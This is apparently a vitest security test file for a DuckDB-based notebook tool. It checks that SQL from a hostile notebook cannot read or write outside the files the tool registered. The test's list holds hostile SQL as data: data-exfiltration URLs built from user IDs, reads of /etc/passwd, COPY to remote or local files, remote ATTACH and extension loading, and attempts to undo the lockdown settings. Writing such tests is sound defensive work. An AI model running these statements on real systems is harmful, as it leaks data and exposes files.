import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadEvents, type Engine } from '../../src/engine/index.ts';
import { loadTestEvents, queryRows } from '../helpers/events.ts';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server.ts';

/**
 * Issue 14: no SQL, trusted or not, can make DuckDB read a URL or a path the person did not load.
 * Every statement here is one a hostile notebook could hold; each must fail, and the recording
 * server must receive nothing. The files cohortbook registered itself still load.
 */
export function testEngineLockdown(name: string, create: () => Promise<Engine>): void {
  describe(`${name}: external access is off and the configuration locked`, () => {
    let engine: Engine;
    let server: RecordingServer;
    beforeAll(async () => {
      server = await startRecordingServer();
      engine = await create();
      await loadTestEvents(engine, [
        { user_id: 'u00569', event: 'signup', ts: '2024-01-01T09:00:00Z' },
        { user_id: 'u00005', event: 'purchase', ts: '2024-01-02T10:00:00Z' },
      ]);
    });
    afterAll(async () => {
      await engine?.close();
      await server?.close();
    });

    // each attack is statements run in order; it "ran" when all of them did
    const attacks = (url: string): [string, ...string[]][] => [
      ['read_csv of a URL built from the data (issue 14.1)', `SELECT * FROM read_csv('${url}/leak?d=' || (SELECT string_agg(user_id, ',') FROM events))`],
      ['read_csv of a URL held in a variable', `SELECT * FROM read_csv(getvariable('u'))`],
      ['a URL as a table (replacement scan)', `SELECT * FROM '${url}/scan.csv'`],
      ['read_text of a URL', `SELECT * FROM read_text('${url}/text')`],
      ['read_blob of a local file', `SELECT * FROM read_blob('/etc/hostname')`],
      ['read_csv of a local file', `SELECT * FROM read_csv('/etc/passwd')`],
      ['a path that climbs out of the registered files', `SELECT * FROM read_csv('/etc/../etc/passwd')`],
      ['glob over the file system', `SELECT * FROM glob('/etc/*')`],
      ['COPY to a URL', `COPY (SELECT * FROM events) TO '${url}/copy.csv'`],
      ['COPY to a local file', `COPY (SELECT * FROM events) TO '/tmp/cohortbook-leak.csv'`],
      ['ATTACH a URL', `ATTACH '${url}/db.duckdb' AS remote`],
      ['LOAD an extension from a URL', `LOAD '${url}/x.duckdb_extension'`],
      // DuckDB-WASM's INSTALL only notes the name (its LOAD fetches), so the pair must fail
      ['INSTALL and LOAD an extension from a URL', `INSTALL httpfs FROM '${url}'`, 'LOAD httpfs'],
      ['turning external access back on', 'SET enable_external_access = true'],
      ['unlocking the configuration', 'SET lock_configuration = false'],
      ['resetting external access', 'RESET enable_external_access'],
      ['widening the allowed directories', "SET allowed_directories = ['/']"],
      ['pointing the extension repository elsewhere', `SET custom_extension_repository = '${url}'`],
    ];

    test('every way to read or write outside what cohortbook registered fails, and nothing is requested', async () => {
      await engine.exec(`SET VARIABLE u = '${server.url}/var?d=' || (SELECT string_agg(user_id, ',') FROM events)`);
      const outcomes: string[] = [];
      for (const [label, ...statements] of attacks(server.url)) {
        let refused = false;
        for (const sql of statements) refused ||= await engine.query(sql).then(() => false, () => true);
        outcomes.push(`${label}: ${refused ? 'refused' : 'RAN'}`);
      }
      expect(outcomes.filter((o) => o.endsWith('RAN'))).toEqual([]);
      expect(server.requests).toEqual([]);
      expect(await queryRows(engine, "SELECT current_setting('enable_external_access') AS external, current_setting('lock_configuration') AS locked"))
        .toEqual([{ external: false, locked: true }]);
    });

    test('the files cohortbook registers itself still load after the lock', async () => {
      await loadEvents(engine, { name: 'late.csv', bytes: new TextEncoder().encode('user_id,event,ts\nlate,signup,2024-02-01T00:00:00Z\n') });
      expect(await queryRows(engine, 'SELECT user_id FROM events')).toEqual([{ user_id: 'late' }]);
      await loadTestEvents(engine, [{ user_id: 'later', event: 'signup', ts: '2024-02-02T00:00:00Z' }]);
      expect(await queryRows(engine, 'SELECT user_id FROM events')).toEqual([{ user_id: 'later' }]);
    });
  });
}
